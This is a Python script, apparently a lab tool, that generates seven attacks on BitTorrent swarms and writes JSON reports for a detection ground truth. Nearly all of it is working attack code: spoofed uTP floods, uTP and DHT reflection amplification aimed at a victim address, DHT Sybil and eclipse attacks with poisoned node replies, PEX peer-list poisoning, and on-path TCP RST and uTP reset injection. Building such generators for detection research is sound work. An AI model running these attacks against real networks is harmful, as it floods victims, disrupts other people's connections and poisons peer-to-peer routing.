#!/usr/bin/python3
"""The lab's attack generator: one function per attack on a BitTorrent swarm, parameters explicit.

Run it only inside a lab namespace, so that nothing leaves the lab:

    ip netns exec swl<net>-attacker /usr/bin/python3 lab/lib/attackgen.py ATTACK --args...

Spoofed packets are built with scapy and sent at layer 2 (`sendp` on the namespace's interface,
destination MAC given explicitly), so they really cross the lab bridge; attacks from the
attacker's own address use plain sockets. Every attack writes a JSON report (`--report FILE`):
`start` (epoch seconds, taken right before the first attack packet is sent), `end`, what was
sent (counts, addresses, ports, ids) — the scenario copies it into the ground truth.

Attacks (the names of the ground truth's categories):
  utp-forged          uTP ST_DATA with a BitTorrent handshake from spoofed, never-existing sources
  utp-reflection      ST_SYN then ST_DATA with a wrong ack_nr, spoofed from a victim (BEP 29 amplification)
  dht-reflection      KRPC get_peers/find_node spoofed from a victim to many DHT nodes
  dht-sybil           KRPC queries from one address with a fresh node id per message
  dht-eclipse         KRPC from node ids sharing 40 bits with an info-hash; answers with more of them
  peer-list-poisoning ut_pex (BEP 11) messages over a plaintext peer connection with fake peers
  reset-injection     on-path: forged TCP RST / uTP ST_RESET into live peer connections (odd TTL)
"""

import argparse
import json
import os
import random
import select
import socket
import struct
import sys
import time

# ---------------------------------------------------------------------------------------------
# bencode (the lab's own: the generator must not depend on what it tests)


def benc(x):
    if isinstance(x, int):
        return b"i%de" % x
    if isinstance(x, str):
        x = x.encode()
    if isinstance(x, bytes):
        return b"%d:%s" % (len(x), x)
    if isinstance(x, list):
        return b"l" + b"".join(benc(v) for v in x) + b"e"
    if isinstance(x, dict):
        items = sorted((k.encode() if isinstance(k, str) else k, v) for k, v in x.items())
        return b"d" + b"".join(benc(k) + benc(v) for k, v in items) + b"e"
    raise TypeError(type(x))


def bdec(b, i=0):
    c = b[i:i + 1]
    if c == b"i":
        j = b.index(b"e", i)
        return int(b[i + 1:j]), j + 1
    if c == b"l":
        i += 1
        out = []
        while b[i:i + 1] != b"e":
            v, i = bdec(b, i)
            out.append(v)
        return out, i + 1
    if c == b"d":
        i += 1
        out = {}
        while b[i:i + 1] != b"e":
            k, i = bdec(b, i)
            v, i = bdec(b, i)
            out[k] = v
        return out, i + 1
    j = b.index(b":", i)
    n = int(b[i:j])
    if j + 1 + n > len(b):
        raise ValueError("short string")
    return b[j + 1:j + 1 + n], j + 1 + n


# ---------------------------------------------------------------------------------------------
# wire formats

PSTR = b"\x13BitTorrent protocol"


def bt_handshake(infohash, peer_id, ext=False):
    reserved = bytearray(8)
    if ext:
        reserved[5] |= 0x10  # BEP 10 extension protocol
    return PSTR + bytes(reserved) + infohash + peer_id


def peer_id(prefix=b"-AT0001-"):
    return prefix + bytes(random.choice(b"0123456789abcdef") for _ in range(20 - len(prefix)))


def utp_header(ptype, conn_id, seq, ack, wnd=1 << 20, ts=None, ts_diff=0):
    """BEP 29 header: type/version, extension 0, connection id, timestamps, window, seq, ack."""
    ts = int(time.time() * 1e6) & 0xFFFFFFFF if ts is None else ts
    return struct.pack(">BBHIIIHH", (ptype << 4) | 1, 0, conn_id & 0xFFFF, ts, ts_diff,
                       wnd, seq & 0xFFFF, ack & 0xFFFF)


ST_DATA, ST_FIN, ST_STATE, ST_RESET, ST_SYN = 0, 1, 2, 3, 4


def krpc_query(q, args, tid):
    return benc({"t": tid, "y": "q", "q": q, "a": args})


def compact(ip, port):
    return socket.inet_aton(ip) + struct.pack(">H", port)


def endpoint(s):
    """"ip:port[@mac]" -> (ip, port, mac or None)."""
    mac = None
    if "@" in s:
        s, mac = s.split("@", 1)
    ip, port = s.rsplit(":", 1)
    return ip, int(port), mac


def own_mac(iface):
    return open(f"/sys/class/net/{iface}/address").read().strip()


class Pacer:
    """Sends at `rate` per second: `wait()` sleeps until the next slot."""

    def __init__(self, rate):
        self.gap = 1.0 / rate
        self.next = time.time()
        self.start = None

    def wait(self):
        now = time.time()
        if self.next > now:
            time.sleep(self.next - now)
        self.next = max(self.next + self.gap, time.time() - self.gap)

    def next_slot(self, duration):
        """Waits for the next slot: its time, or None once `duration` s have passed since the
        first (whose time is `start`, the attack's start)."""
        self.wait()
        now = time.time()
        if self.start is None:
            self.start = now
        elif now - self.start >= duration:
            return None
        return now


def l2socket(iface):
    from scapy.all import conf
    return conf.L2socket(iface=iface)


def spoofed_udp(src_mac, dst_mac, src, sport, dst, dport, payload, ttl=64):
    from scapy.all import IP, UDP, Ether, Raw
    return (Ether(src=src_mac, dst=dst_mac) / IP(src=src, dst=dst, ttl=ttl, id=random.randrange(65536))
            / UDP(sport=sport, dport=dport) / Raw(payload))


# ---------------------------------------------------------------------------------------------
# 1. utp-forged


def utp_forged(iface, targets, infohash, spoof_prefix, spoof_first, spoof_count, bogons, rate,
               duration, junk=(16, 200)):
    """ST_DATA (never a SYN) with random connection ids and seq/ack, payload a BitTorrent
    handshake for `infohash` plus random bytes, to each target's uTP port in turn, from
    `spoof_count` spoofed addresses `spoof_prefix`.<spoof_first...> that no host has, plus the
    bogon sources; `rate` packets/s for `duration` s."""
    s = l2socket(iface)
    me = own_mac(iface)
    sources = [f"{spoof_prefix}.{spoof_first + i}" for i in range(spoof_count)] + list(bogons)
    pace = Pacer(rate)
    sent = []
    i = 0
    while (now := pace.next_slot(duration)) is not None:
        ip, port, mac = targets[i % len(targets)]
        src = sources[i % len(sources)] if i < len(sources) else random.choice(sources)
        sport = random.randrange(1024, 65536)
        payload = (utp_header(ST_DATA, random.randrange(65536), random.randrange(65536),
                              random.randrange(65536))
                   + bt_handshake(infohash, peer_id()) + os.urandom(random.randrange(*junk)))
        s.send(spoofed_udp(me, mac, src, sport, ip, port, payload))
        sent.append({"t": round(now, 6), "src": src, "sport": sport, "dst": ip, "dport": port,
                     "len": len(payload)})
        i += 1
    start = pace.start
    end = time.time()
    s.close()
    return {"start": start, "end": end, "packets": len(sent), "sources": sources,
            "sources_used": sorted({p["src"] for p in sent}),
            "targets": [f"{ip}:{port}" for ip, port, _ in targets],
            "per_target": {f"{ip}:{port}": sum(1 for p in sent if p["dst"] == ip)
                           for ip, port, _ in targets},
            "sent": sent}


# ---------------------------------------------------------------------------------------------
# 2. utp-reflection


def utp_reflection(iface, victim, targets, infohash, connections, gap, data_delay, duration_hint):
    """Per forged connection: ST_SYN from victim:port (new port, new connection id) to a target,
    then after `data_delay` s an ST_DATA from the same victim port with conn id + 1, seq + 1,
    a random ack_nr (the target's seq_nr is unknown off-path) and a BitTorrent handshake for
    `infohash`. `connections` per target, one every `gap` s, targets in turn."""
    s = l2socket(iface)
    me = own_mac(iface)
    conns = []
    start = None
    total = connections * len(targets)
    ports = random.sample(range(10000, 60000), total)
    pace = Pacer(1.0 / gap)
    for n in range(total):
        pace.wait()
        ip, port, mac = targets[n % len(targets)]
        vport = ports[n]
        rid = random.randrange(65535)
        seq = random.randrange(65536)
        ack = random.randrange(65536)
        syn = utp_header(ST_SYN, rid, seq, 0)
        t0 = time.time()
        if start is None:
            start = t0
        s.send(spoofed_udp(me, mac, victim, vport, ip, port, syn))
        time.sleep(data_delay)
        data = utp_header(ST_DATA, rid + 1, seq + 1, ack) + bt_handshake(infohash, peer_id(), ext=True)
        t1 = time.time()
        s.send(spoofed_udp(me, mac, victim, vport, ip, port, data))
        conns.append({"t_syn": round(t0, 6), "t_data": round(t1, 6), "victim_port": vport,
                      "target": f"{ip}:{port}", "conn_id": rid, "seq": seq, "ack_nr": ack,
                      "syn_bytes": len(syn), "data_bytes": len(data)})
    end = time.time()
    s.close()
    return {"start": start, "end": end, "victim": victim, "connections": conns,
            "packets": 2 * len(conns), "targets": [f"{ip}:{port}" for ip, port, _ in targets]}


# ---------------------------------------------------------------------------------------------
# 3. dht-reflection


def dht_reflection(iface, victim, victim_port, reflectors, infohash, rate, duration):
    """KRPC get_peers (for `infohash`) and find_node, spoofed from victim:victim_port, to the
    reflectors in turn, `rate`/s for `duration` s; each with a fresh 2-byte transaction id and
    one (fixed) node id, as a real reflection attacker would use."""
    s = l2socket(iface)
    me = own_mac(iface)
    nid = os.urandom(20)
    pace = Pacer(rate)
    sent = []
    tids = set()
    i = 0
    while (now := pace.next_slot(duration)) is not None:
        ip, port, mac = reflectors[i % len(reflectors)]
        while True:
            tid = os.urandom(2)
            if tid not in tids or len(tids) >= 65536:
                break
        tids.add(tid)
        if i % 2 == 0:
            q, args = "get_peers", {"id": nid, "info_hash": infohash}
        else:
            q, args = "find_node", {"id": nid, "target": os.urandom(20)}
        payload = krpc_query(q, args, tid)
        s.send(spoofed_udp(me, mac, victim, victim_port, ip, port, payload))
        sent.append({"t": round(now, 6), "dst": f"{ip}:{port}", "q": q, "tid": tid.hex(),
                     "len": len(payload)})
        i += 1
    start = pace.start
    end = time.time()
    s.close()
    return {"start": start, "end": end, "victim": f"{victim}:{victim_port}", "node_id": nid.hex(),
            "packets": len(sent), "reflectors": [f"{ip}:{port}" for ip, port, _ in reflectors],
            "per_query": {q: sum(1 for p in sent if p["q"] == q) for q in ("get_peers", "find_node")},
            "bytes": sum(p["len"] for p in sent), "sent": sent}


# ---------------------------------------------------------------------------------------------
# 4. dht-sybil


def dht_sybil(src, ports, targets, infohash, rate, duration, twins_every):
    """From one address (several UDP source ports), KRPC ping / find_node / get_peers to the
    targets in turn, each message with a new random node id; every `twins_every`-th message
    uses a near-twin of a base id (1-2 bytes changed). Replies are read and counted."""
    socks = []
    for p in ports:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.bind((src, p))
        u.setblocking(False)
        socks.append(u)
    base = os.urandom(20)
    pace = Pacer(rate)
    sent, ids, replies = [], [], {}
    i = 0
    while (now := pace.next_slot(duration)) is not None:
        ip, port, _ = targets[i % len(targets)]
        if twins_every and i % twins_every == twins_every - 1:
            nid = bytearray(base)
            for _ in range(random.choice((1, 2))):
                nid[random.randrange(20)] = random.randrange(256)
            nid, kind = bytes(nid), "twin"
        else:
            nid, kind = os.urandom(20), "random"
        q = ("ping", "find_node", "get_peers")[i % 3]
        args = {"id": nid}
        if q == "find_node":
            args["target"] = os.urandom(20)
        elif q == "get_peers":
            args["info_hash"] = infohash
        u = socks[i % len(socks)]
        tid = os.urandom(2)
        u.sendto(krpc_query(q, args, tid), (ip, port))
        sent.append({"t": round(now, 6), "sport": u.getsockname()[1], "dst": f"{ip}:{port}",
                     "q": q, "id": nid.hex(), "kind": kind})
        ids.append(nid.hex())
        i += 1
        _drain(socks, replies)
    start = pace.start
    time.sleep(1)
    _drain(socks, replies)
    end = sent[-1]["t"] if sent else time.time()
    for u in socks:
        u.close()
    return {"start": start, "end": end, "source": src, "ports": ports, "packets": len(sent),
            "distinct_ids": len(set(ids)), "base_id": base.hex(),
            "twins": sorted({p["id"] for p in sent if p["kind"] == "twin"}),
            "targets": [f"{ip}:{port}" for ip, port, _ in targets],
            "replies": replies, "sent": sent}


def _drain(socks, replies):
    for u in socks:
        while True:
            try:
                data, addr = u.recvfrom(65536)
            except (BlockingIOError, OSError):
                break
            k = f"{addr[0]}:{addr[1]}"
            replies[k] = replies.get(k, 0) + 1


# ---------------------------------------------------------------------------------------------
# 5. dht-eclipse


def eclipse_ids(infohash, n, prefix_bytes=5):
    return [infohash[:prefix_bytes] + os.urandom(20 - prefix_bytes) for _ in range(n)]


def dht_eclipse(addrs, ports, targets, infohash, duration, rate, answer, extra_ids):
    """Node ids sharing their first 40 bits with `infohash`, one per (address, port) socket
    (`addrs` × `ports`): KRPC ping / find_node (target: the info-hash) / get_peers (the
    info-hash) from each id to the targets, `rate`/s for `duration` s. With `answer`, every
    query a client sends to one of these ids is answered with that id and `nodes` = 8 other
    such ids (the sockets' own, then `extra_ids` more pointing at the same sockets), so a
    lookup of the info-hash runs into them."""
    socks = []
    for a in addrs:
        for p in ports:
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.bind((a, p))
            u.setblocking(False)
            socks.append(u)
    ids = eclipse_ids(infohash, len(socks))
    by_sock = dict(zip(socks, ids))
    nodes = [(nid, u.getsockname()) for u, nid in by_sock.items()]
    more = eclipse_ids(infohash, extra_ids)
    # the extra ids point at the same sockets (an attacker with few addresses)
    more_nodes = [(nid, socks[i % len(socks)].getsockname()) for i, nid in enumerate(more)]
    all_nodes = nodes + more_nodes
    pace = Pacer(rate)
    sent, answered, queries_in = [], 0, {}
    i = 0
    while (now := pace.next_slot(duration)) is not None:
        u = socks[i % len(socks)]
        ip, port, _ = targets[(i // len(socks)) % len(targets)]
        nid = by_sock[u]
        q = ("ping", "find_node", "get_peers")[(i // (len(socks) * len(targets))) % 3]
        args = {"id": nid}
        if q == "find_node":
            args["target"] = infohash
        elif q == "get_peers":
            args["info_hash"] = infohash
        u.sendto(krpc_query(q, args, os.urandom(2)), (ip, port))
        sent.append({"t": round(now, 6), "src": "%s:%d" % u.getsockname(), "dst": f"{ip}:{port}",
                     "q": q, "id": nid.hex()})
        i += 1
        answered += _answer(socks, by_sock, all_nodes, queries_in, answer)
    start = pace.start
    t_end = time.time() + 1
    while time.time() < t_end:
        answered += _answer(socks, by_sock, all_nodes, queries_in, answer)
        time.sleep(0.05)
    end = sent[-1]["t"] if sent else time.time()
    names = sorted({"%s:%d" % u.getsockname() for u in socks})
    for u in socks:
        u.close()
    return {"start": start, "end": end, "sources": names,
            "addresses": addrs, "ids": [x.hex() for x in ids], "extra_ids": [x.hex() for x in more],
            "common_prefix_bits": 40, "packets": len(sent),
            "targets": [f"{ip}:{port}" for ip, port, _ in targets], "answered": answered,
            "queries_received": queries_in, "sent": sent}


def _answer(socks, by_sock, all_nodes, queries_in, answer):
    n = 0
    r, _, _ = select.select(socks, [], [], 0)
    for u in r:
        try:
            data, addr = u.recvfrom(65536)
        except OSError:
            continue
        try:
            d, _ = bdec(data)
        except (ValueError, IndexError):
            continue
        if not isinstance(d, dict) or d.get(b"y") != b"q":
            continue
        q = d.get(b"q", b"?").decode(errors="replace")
        k = f"{addr[0]}:{q}"
        queries_in[k] = queries_in.get(k, 0) + 1
        if not answer:
            continue
        me = by_sock[u]
        others = [x for x in all_nodes if x[0] != me]
        random.shuffle(others)
        r_args = {"id": me}
        if q in ("find_node", "get_peers"):
            r_args["nodes"] = b"".join(nid + compact(*ep) for nid, ep in others[:8])
        if q == "get_peers":
            r_args["token"] = os.urandom(4)
        u.sendto(benc({"t": d.get(b"t", b""), "y": "r", "r": r_args}), addr)
        n += 1
    return n


# ---------------------------------------------------------------------------------------------
# 6. peer-list-poisoning


def _read_msgs(sock, buf, timeout):
    """Reads length-prefixed peer-wire messages for up to `timeout` s; returns (msgs, buf)."""
    msgs = []
    deadline = time.time() + timeout
    while time.time() < deadline:
        r, _, _ = select.select([sock], [], [], max(0, deadline - time.time()))
        if not r:
            break
        chunk = sock.recv(65536)
        if not chunk:
            raise ConnectionError("closed by peer")
        buf += chunk
        while len(buf) >= 4:
            n = struct.unpack(">I", buf[:4])[0]
            if len(buf) < 4 + n:
                break
            msgs.append(buf[4:4 + n])
            buf = buf[4 + n:]
    return msgs, buf


def _pex_one(target, infohash, peers, repeats, hold, log):
    ip, port, _ = target
    rec = {"target": f"{ip}:{port}", "events": []}
    ev = lambda what, **kw: rec["events"].append(dict(t=round(time.time(), 6), what=what, **kw))
    s = socket.create_connection((ip, port), timeout=5)
    rec["local"] = "%s:%d" % s.getsockname()
    pid = peer_id(b"-AT0001-")
    s.sendall(bt_handshake(infohash, pid, ext=True))
    s.sendall(_ext_msg(0, {"m": {"ut_pex": 1}, "v": "lab-attacker 0.1", "p": 6881}))
    ev("sent handshake + extension handshake", peer_id=pid.hex())
    buf = b""
    deadline = time.time() + 10
    while len(buf) < 68 and time.time() < deadline:
        r, _, _ = select.select([s], [], [], 1)
        if r:
            chunk = s.recv(65536)
            if not chunk:
                raise ConnectionError(f"{ip}:{port} closed during the handshake")
            buf += chunk
    if len(buf) < 68 or not buf.startswith(PSTR):
        raise ConnectionError(f"{ip}:{port}: no plaintext handshake back ({buf[:20]!r})")
    rec["their_reserved"] = buf[20:28].hex()
    rec["their_peer_id"] = buf[48:68].hex()
    rec["their_infohash"] = buf[28:48].hex()
    buf = buf[68:]
    pex_id = None
    deadline = time.time() + 10
    while pex_id is None and time.time() < deadline:
        msgs, buf = _read_msgs(s, buf, 1)
        for m in msgs:
            if m[:2] == b"\x14\x00":
                d, _ = bdec(m[2:])
                rec["their_ext_handshake"] = {k.decode(): (v.decode(errors="replace") if isinstance(v, bytes) else
                                                          ({kk.decode(): vv for kk, vv in v.items()} if isinstance(v, dict) else v))
                                              for k, v in d.items() if k != b"yourip"}
                pex_id = d.get(b"m", {}).get(b"ut_pex")
    if not pex_id:
        raise ConnectionError(f"{ip}:{port}: no ut_pex in the extension handshake")
    rec["their_ut_pex_id"] = pex_id
    ev("got extension handshake", ut_pex=pex_id)
    added = b"".join(compact(a, p) for a, p in peers)
    flags = bytes([0x10] * len(peers))  # "reachable" (BEP 11: 0x10 = outgoing connections ok)
    pex = {"added": added, "added.f": flags, "dropped": b""}
    t_first = None
    gap = hold / max(1, repeats)
    closed = False
    for k in range(repeats):
        now = time.time()
        try:
            s.sendall(_ext_msg(pex_id, pex))
        except OSError as e:
            ev("send failed", error=str(e))
            closed = True
            break
        t_first = t_first or now
        ev("sent ut_pex", peers=len(peers), bytes=len(pex["added"]))
        end = time.time() + gap
        while time.time() < end:
            try:
                msgs, buf = _read_msgs(s, buf, min(5, max(0, end - time.time())))
            except (ConnectionError, OSError) as e:
                ev("connection closed by the target", error=str(e))
                closed = True
                break
            try:
                s.sendall(b"\x00\x00\x00\x00")  # keep-alive
            except OSError as e:
                ev("keep-alive failed", error=str(e))
                closed = True
                break
        if closed:
            break
    s.close()
    rec["closed_by_target"] = closed
    return rec, t_first


def _ext_msg(ext_id, d):
    body = b"\x14" + bytes([ext_id]) + benc(d)
    return struct.pack(">I", len(body)) + body


def peer_list_poisoning(targets, infohash, fake_prefix, fake_first, fake_count, fake_port, bogons,
                        repeats, hold):
    """For each target (in parallel threads): a plaintext peer connection with the extension
    bit, an extension handshake offering ut_pex, then `repeats` ut_pex messages whose `added`
    lists `fake_count` peers in `fake_prefix`.<fake_first...> (no such hosts) and the bogons,
    keep-alives in between, the connection held for `hold` s."""
    import threading
    peers = [(f"{fake_prefix}.{fake_first + i}", fake_port) for i in range(fake_count)]
    peers += [(b, fake_port) for b in bogons]
    out, firsts = [None] * len(targets), [None] * len(targets)
    start = time.time()

    def go(i, t):
        try:
            out[i], firsts[i] = _pex_one(t, infohash, peers, repeats, hold, None)
        except Exception as e:  # noqa: BLE001  (recorded, not fatal for the other target)
            out[i] = {"target": f"{t[0]}:{t[1]}", "error": str(e)}

    th = [threading.Thread(target=go, args=(i, t)) for i, t in enumerate(targets)]
    for t in th:
        t.start()
    for t in th:
        t.join(hold + 30)
    firsts = [f for f in firsts if f]
    return {"start": start, "first_pex": min(firsts) if firsts else None, "end": time.time(),
            "fake_peers": [f"{a}:{p}" for a, p in peers], "connections": out,
            "targets": [f"{ip}:{port}" for ip, port, _ in targets]}


# ---------------------------------------------------------------------------------------------
# 7. reset-injection


def reset_injection(iface, peers, duration, injections, ttl, settle):
    """On the bridge (the switch namespace): sniffs TCP and uTP between the `peers` addresses;
    every duration/injections s, picks a live TCP connection (payload in the last second, not
    hit before if possible) and sends a RST spoofed from the side receiving the payload, with
    that side's next sequence number (its last segment's seq + payload length) and TTL `ttl`;
    and the same for a live uTP connection: ST_RESET with the connection id, seq_nr and ack_nr
    of the spoofed side's last packet."""
    from scapy.all import IP, TCP, UDP, AsyncSniffer, Ether, Raw, conf
    peers = set(peers)
    s = conf.L2socket(iface=iface)
    tcp_dir = {}   # (src, sport, dst, dport) -> {seq, len, flags, ttl, mac, t, payload_t}
    utp_dir = {}   # (src, sport, dst, dport) -> {conn_id, seq, ack, ttl, mac, t}
    hit_tcp, hit_utp = set(), set()
    done = []
    t_start = time.time()
    schedule = [t_start + settle + k * (duration / injections) for k in range(injections)]
    state = {"first": None}

    def conn_key(k):
        a, b = (k[0], k[1]), (k[2], k[3])
        return tuple(sorted([a, b]))

    def inject_tcp(now):
        cands = []
        for k, d in list(tcp_dir.items()):
            back = (k[2], k[3], k[0], k[1])
            if back not in tcp_dir or now - d.get("payload_t", 0) > 1.0:
                continue
            if "F" in d["flags"] or "R" in d["flags"]:
                continue
            cands.append((conn_key(k) in hit_tcp, -d.get("payload_bytes", 0), k, back))
        if not cands:
            return None
        cands.sort()
        _, _, k, back = cands[0]
        r = tcp_dir[back]  # the side receiving the payload: spoof it
        seq = (r["seq"] + r["len"]) & 0xFFFFFFFF
        pkt = (Ether(src=r["mac"], dst=tcp_dir[k]["mac"])
               / IP(src=back[0], dst=back[2], ttl=ttl, id=random.randrange(65536))
               / TCP(sport=back[1], dport=back[3], flags="R", seq=seq, window=0))
        if state["first"] is None:
            state["first"] = time.time()
        s.send(pkt)
        hit_tcp.add(conn_key(k))
        return {"t": round(time.time(), 6), "kind": "tcp-rst", "src": f"{back[0]}:{back[1]}",
                "dst": f"{back[2]}:{back[3]}", "seq": seq, "ttl": ttl, "real_ttl": r["ttl"],
                "payload_from": f"{k[0]}:{k[1]}"}

    def inject_utp(now):
        cands = []
        for k, d in list(utp_dir.items()):
            back = (k[2], k[3], k[0], k[1])
            if back not in utp_dir or now - d["t"] > 1.0:
                continue
            cands.append((conn_key(k) in hit_utp, -d.get("bytes", 0), k, back))
        if not cands:
            return None
        cands.sort()
        _, _, k, back = cands[0]
        r = utp_dir[back]
        payload = utp_header(ST_RESET, r["conn_id"], r["seq"], r["ack"], wnd=0)
        pkt = (Ether(src=r["mac"], dst=utp_dir[k]["mac"])
               / IP(src=back[0], dst=back[2], ttl=ttl, id=random.randrange(65536))
               / UDP(sport=back[1], dport=back[3]) / Raw(payload))
        if state["first"] is None:
            state["first"] = time.time()
        s.send(pkt)
        hit_utp.add(conn_key(k))
        return {"t": round(time.time(), 6), "kind": "utp-reset", "src": f"{back[0]}:{back[1]}",
                "dst": f"{back[2]}:{back[3]}", "conn_id": r["conn_id"], "seq_nr": r["seq"],
                "ack_nr": r["ack"], "ttl": ttl, "real_ttl": r["ttl"], "payload_from": f"{k[0]}:{k[1]}"}

    def on_pkt(p):
        if IP not in p:
            return
        ip = p[IP]
        if ip.src not in peers or ip.dst not in peers or ip.ttl == ttl:
            return
        now = float(p.time)
        if TCP in p:
            t = p[TCP]
            k = (ip.src, t.sport, ip.dst, t.dport)
            n = len(bytes(t.payload))
            d = tcp_dir.setdefault(k, {"payload_bytes": 0})
            d.update(seq=t.seq, len=n + (1 if t.flags & 0x03 else 0), flags=str(t.flags),
                     ttl=ip.ttl, mac=p[Ether].src, t=now)
            if n:
                d["payload_t"] = now
                d["payload_bytes"] += n
        elif UDP in p:
            b = bytes(p[UDP].payload)
            if len(b) >= 20 and b[0] & 0x0F == 1 and b[0] >> 4 <= 4 and b[1] in (0, 1, 2, 3):
                conn_id, = struct.unpack(">H", b[2:4])
                seq, ack = struct.unpack(">HH", b[16:20])
                k = (ip.src, p[UDP].sport, ip.dst, p[UDP].dport)
                d = utp_dir.setdefault(k, {"bytes": 0})
                d.update(conn_id=conn_id, seq=seq, ack=ack, ttl=ip.ttl, mac=p[Ether].src, t=now)
                d["bytes"] += len(b) - 20

    sn = AsyncSniffer(iface=iface, filter="ip and (tcp or udp)", prn=on_pkt, store=False)
    sn.start()
    stop_at = t_start + settle + duration + 1
    while time.time() < stop_at:
        time.sleep(0.05)
        now = time.time()
        while schedule and now >= schedule[0]:
            schedule.pop(0)
            for f in (inject_tcp, inject_utp):
                r = f(now)
                if r:
                    done.append(r)
    sn.stop()
    s.close()
    return {"start": state["first"], "end": done[-1]["t"] if done else None,
            "injections": done, "ttl": ttl, "peers": sorted(peers),
            "tcp_connections_seen": len({conn_key(k) for k in list(tcp_dir)}),
            "utp_connections_seen": len({conn_key(k) for k in list(utp_dir)})}


# ---------------------------------------------------------------------------------------------


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="attack", required=True)

    def common(p):
        p.add_argument("--report", required=True, help="JSON report file")
        p.add_argument("--seed", type=int, help="random seed")
        return p

    p = common(sub.add_parser("utp-forged"))
    p.add_argument("--iface", default="eth0")
    p.add_argument("--target", action="append", required=True, help="ip:port@mac (repeatable)")
    p.add_argument("--infohash", required=True)
    p.add_argument("--spoof-prefix", required=True, help="e.g. 10.77.150")
    p.add_argument("--spoof-first", type=int, default=200)
    p.add_argument("--spoof-count", type=int, default=50)
    p.add_argument("--bogon", action="append", default=[])
    p.add_argument("--rate", type=float, default=50)
    p.add_argument("--duration", type=float, default=20)

    p = common(sub.add_parser("utp-reflection"))
    p.add_argument("--iface", default="eth0")
    p.add_argument("--victim", required=True)
    p.add_argument("--target", action="append", required=True, help="ip:port@mac")
    p.add_argument("--infohash", required=True)
    p.add_argument("--connections", type=int, default=20, help="per target")
    p.add_argument("--gap", type=float, default=0.6, help="seconds between connections")
    p.add_argument("--data-delay", type=float, default=0.1)

    p = common(sub.add_parser("dht-reflection"))
    p.add_argument("--iface", default="eth0")
    p.add_argument("--victim", required=True, help="ip:port")
    p.add_argument("--reflector", action="append", required=True, help="ip:port@mac")
    p.add_argument("--infohash", required=True)
    p.add_argument("--rate", type=float, default=20)
    p.add_argument("--duration", type=float, default=20)

    p = common(sub.add_parser("dht-sybil"))
    p.add_argument("--source", required=True)
    p.add_argument("--port", type=int, action="append", required=True)
    p.add_argument("--target", action="append", required=True, help="ip:port")
    p.add_argument("--infohash", required=True)
    p.add_argument("--rate", type=float, default=8)
    p.add_argument("--duration", type=float, default=20)
    p.add_argument("--twins-every", type=int, default=8)

    p = common(sub.add_parser("dht-eclipse"))
    p.add_argument("--address", action="append", required=True)
    p.add_argument("--port", type=int, action="append", required=True)
    p.add_argument("--target", action="append", required=True, help="ip:port")
    p.add_argument("--infohash", required=True)
    p.add_argument("--rate", type=float, default=12)
    p.add_argument("--duration", type=float, default=20)
    p.add_argument("--no-answer", action="store_true")
    p.add_argument("--extra-ids", type=int, default=8)

    p = common(sub.add_parser("peer-list-poisoning"))
    p.add_argument("--target", action="append", required=True, help="ip:port")
    p.add_argument("--infohash", required=True)
    p.add_argument("--fake-prefix", required=True)
    p.add_argument("--fake-first", type=int, default=100)
    p.add_argument("--fake-count", type=int, default=50)
    p.add_argument("--fake-port", type=int, default=6881)
    p.add_argument("--bogon", action="append", default=[])
    p.add_argument("--repeats", type=int, default=3)
    p.add_argument("--hold", type=float, default=20)

    p = common(sub.add_parser("reset-injection"))
    p.add_argument("--iface", default="br0")
    p.add_argument("--peer", action="append", required=True, help="a real client's address")
    p.add_argument("--duration", type=float, default=20)
    p.add_argument("--injections", type=int, default=5)
    p.add_argument("--ttl", type=int, default=37)
    p.add_argument("--settle", type=float, default=2, help="sniff this long before the first injection")

    a = ap.parse_args()
    if a.seed is not None:
        random.seed(a.seed)
    ih = bytes.fromhex(a.infohash) if getattr(a, "infohash", None) else None
    eps = lambda xs: [endpoint(x) for x in xs]
    if a.attack == "utp-forged":
        r = utp_forged(a.iface, eps(a.target), ih, a.spoof_prefix, a.spoof_first, a.spoof_count,
                       a.bogon, a.rate, a.duration)
    elif a.attack == "utp-reflection":
        r = utp_reflection(a.iface, a.victim, eps(a.target), ih, a.connections, a.gap,
                           a.data_delay, None)
    elif a.attack == "dht-reflection":
        vip, vport, _ = endpoint(a.victim)
        r = dht_reflection(a.iface, vip, vport, eps(a.reflector), ih, a.rate, a.duration)
    elif a.attack == "dht-sybil":
        r = dht_sybil(a.source, a.port, eps(a.target), ih, a.rate, a.duration, a.twins_every)
    elif a.attack == "dht-eclipse":
        r = dht_eclipse(a.address, a.port, eps(a.target), ih, a.duration, a.rate,
                        not a.no_answer, a.extra_ids)
    elif a.attack == "peer-list-poisoning":
        r = peer_list_poisoning(eps(a.target), ih, a.fake_prefix, a.fake_first, a.fake_count,
                                a.fake_port, a.bogon, a.repeats, a.hold)
    elif a.attack == "reset-injection":
        r = reset_injection(a.iface, a.peer, a.duration, a.injections, a.ttl, a.settle)
    else:
        sys.exit(f"unknown attack {a.attack}")
    r["attack"] = a.attack
    r["argv"] = sys.argv[1:]
    with open(a.report, "w") as f:
        json.dump(r, f, indent=1)
    print(json.dumps({k: v for k, v in r.items() if not isinstance(v, (list, dict))}))


if __name__ == "__main__":
    main()
